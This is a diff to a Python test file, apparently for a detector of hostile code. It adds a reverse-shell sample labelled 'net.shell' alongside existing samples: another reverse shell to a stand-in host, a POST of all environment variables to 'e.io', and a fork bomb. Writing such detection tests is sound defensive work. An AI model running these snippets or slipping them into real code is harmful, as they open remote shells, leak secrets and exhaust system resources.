@@ -106,6 +106,13 @@ def test_one_deed_in_many_spellings(text: str) -> None:
             None,
             (),
         ),
+        (
+            "import socket, subprocess, os\ndef link(s, h):\n    s.connect(h)\n    return s\ndef go(s):\n    os.dup2(s.fileno(), 0)\n"
+            "    subprocess.run(['/bin/sh'])\ngo(link(make(socket), ('a.io', 1)))",
+            "net.shell",
+            None,
+            (),
+        ),
         ("import pty,socket\ns=socket.create_connection(('a.io',1))\npty.spawn('/bin/sh')", "net.shell", None, ()),
         ("import os, requests\nrequests.post('https://e.io', json=dict(os.environ))", "secret.send", "https://e.io", ("env",)),
         ("import os\nwhile True:\n    os.fork()", "proc.bomb", "os.fork", ()),
